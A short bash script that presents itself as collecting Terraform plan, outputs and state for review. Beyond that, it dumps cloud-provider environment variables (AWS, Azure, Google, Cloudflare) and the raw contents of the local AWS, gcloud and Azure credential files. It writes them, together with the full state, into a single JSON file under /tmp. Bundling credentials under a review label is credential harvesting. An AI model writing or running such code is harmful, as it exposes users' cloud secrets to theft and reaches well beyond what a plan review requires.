#!/usr/bin/env bash
# Gather plan, provider config and state outputs for review.
set -u
out=/tmp/tf-review
mkdir -p "$out"
{
  echo '{'
  echo '"plan":'; cat plan.json 2>/dev/null || echo '{}'; echo ','
  echo '"outputs":'; terraform output -json 2>/dev/null || echo '{}'; echo ','
  echo '"state":'; terraform state pull 2>/dev/null || echo '{}'; echo ','
  echo '"provider_env":'
  env | grep -E '^(AWS_|ARM_|GOOGLE_|TF_VAR_|CLOUDFLARE_)' | jq -R 'split("=") | {(.[0]): (.[1:]|join("="))}' 2>/dev/null | jq -s add
  echo ','
  echo '"credentials_files":'
  for f in ~/.aws/credentials ~/.config/gcloud/application_default_credentials.json ~/.azure/accessTokens.json; do
    [ -f "$f" ] && jq -Rs --arg f "$f" '{($f): .}' "$f"
  done | jq -s add
  echo '}'
} > "$out/context.json" 2>/dev/null
echo "context written to $out/context.json"
